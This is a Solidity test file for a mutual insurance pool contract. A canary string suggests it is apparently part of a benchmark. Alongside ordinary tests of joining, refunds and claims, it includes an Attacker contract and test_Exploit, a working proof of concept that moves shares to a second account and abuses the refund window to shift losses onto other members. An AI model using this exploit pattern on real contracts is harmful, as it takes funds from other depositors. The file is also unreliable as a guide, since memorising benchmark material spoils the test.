// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-66e69b53-809c-431a-a2e0-de58fad9172c

import "./DroversSurety.sol";

interface Vm {
    function prank(address who) external;
    function warp(uint256 timestamp) external;
    function expectRevert(bytes4 reason) external;
}

/// Cash that can be paid in, at times, and never comes back.
contract Sieve is IERC20 {
    bool public takes;

    function open() external {
        takes = true;
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return false;
    }

    function transferFrom(address, address, uint256) external view returns (bool) {
        return takes;
    }
}

contract Penny is IERC20 {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Member {
    DroversSurety internal fund;

    constructor(DroversSurety fund_) {
        fund = fund_;
        Penny(address(fund_.cash())).approve(address(fund_), type(uint256).max);
    }

    function join(uint256 amount) external returns (uint256) {
        return fund.join(amount);
    }

    function reconsider() external returns (uint256) {
        return fund.reconsider();
    }

    function share() external returns (uint256) {
        return fund.share(fund.sharesOf(address(this)));
    }
}

/// A member like any other, which opens a second account.
contract Attacker is Member {
    constructor(DroversSurety fund_) Member(fund_) {}

    function run() external {
        Member second = new Member(fund);
        fund.give(address(second), fund.sharesOf(address(this)));
        uint256 least = fund.MIN_JOIN();
        fund.cash().transfer(address(second), least);
        second.join(least);
        second.reconsider();
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_774_000_000;

    Penny public cash;
    ClaimBook public book;
    DroversSurety public fund;
    Member public ada;
    Attacker public sly;
    address public farmer = address(0xFA);

    function setUp() public {
        vm.warp(START);
        cash = new Penny();
        book = new ClaimBook();
        fund = new DroversSurety(cash, book, 180 days);
        book.setFund(address(fund));
        ada = new Member(fund);
        sly = new Attacker(fund);
        cash.mint(address(ada), 300_000e6);
        cash.mint(address(sly), 100_010e6);
        ada.join(300_000e6);
        sly.join(100_000e6);
        vm.warp(START + 10 days);
        book.announce(farmer, 200_000e6);
        vm.warp(START + 12 days);
    }

    // What the other member has, and gets out of the pot when all announced claims are paid.
    function othersWorth() public view returns (uint256) {
        uint256 claims = book.pending();
        uint256 rest = fund.pot() > claims ? fund.pot() - claims : 0;
        uint256 all = fund.totalShares();
        return cash.balanceOf(address(ada)) + (all == 0 ? 0 : (rest * fund.sharesOf(address(ada))) / all);
    }

    function test_Regular() public {
        require(othersWorth() == 150_000e6, "three quarters of the rest");
        try ada.reconsider() returns (uint256) {
            revert("too late");
        } catch {}

        // A new member has second thoughts.
        Member bo = new Member(fund);
        cash.mint(address(bo), 70_000e6);
        bo.join(40_000e6);
        vm.warp(START + 13 days);
        bo.join(20_000e6);
        require(fund.worthOf(address(bo)) == 60_000e6, "worth what was put up");
        require(bo.reconsider() == 60_000e6 && fund.sharesOf(address(bo)) == 0, "taken back");
        try bo.reconsider() returns (uint256) {
            revert("twice");
        } catch {}
        vm.warp(START + 16 days);
        bo.join(70_000e6);
        try bo.reconsider() returns (uint256) {
            revert("one window only");
        } catch {}

        // The claim becomes payable.
        try fund.payClaim(0) {
            revert("early");
        } catch {}
        vm.warp(START + 17 days);
        fund.payClaim(0);
        require(cash.balanceOf(farmer) == 200_000e6 && fund.pot() == 270_000e6, "claim is paid");
        try fund.payClaim(0) {
            revert("paid twice");
        } catch {}

        cash.mint(address(this), 47_000e6);
        cash.approve(address(fund), 47_000e6);
        fund.payPremium(47_000e6);
        vm.warp(START + 170 days);
        try sly.join(10e6) returns (uint256) {
            revert("joining is closed");
        } catch {}
        try ada.share() returns (uint256) {
            revert("season is running");
        } catch {}
        vm.warp(START + 180 days);
        uint256 sum = ada.share() + sly.share() + bo.share();
        require(sum <= 317_000e6 && sum + 6 >= 317_000e6, "all is shared");
        require(cash.balanceOf(address(ada)) >= 202_340e6 - 1e6, "in proportion");

        vm.prank(address(ada));
        fund.give(farmer, 0);
    }

    // What is refused, each from the state after setUp().

    function test_RefusesSmallAmounts() public {
        vm.expectRevert(DroversSurety.AmountTooSmall.selector);
        fund.join(10e6 - 1);
    }

    function test_RefusesToShareWhileClaimsArePending() public {
        vm.warp(START + 180 days);
        vm.prank(address(ada));
        vm.expectRevert(DroversSurety.ClaimsPending.selector);
        fund.share(1);
    }

    function test_RefusesCashThatDoesNotMove() public {
        Sieve sieve = new Sieve();
        DroversSurety other = new DroversSurety(sieve, book, 180 days);
        vm.expectRevert(DroversSurety.PaymentFailed.selector);
        other.join(10e6);
        sieve.open();
        other.join(10e6);
        vm.expectRevert(DroversSurety.PaymentFailed.selector);
        other.reconsider();
    }

    function exploit() public {
        sly.run();
    }

    function test_Exploit() public {
        uint256 before = othersWorth();
        exploit();
        require(othersWorth() + 45_000e6 <= before, "the others bear it");
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(sly);
    }
}
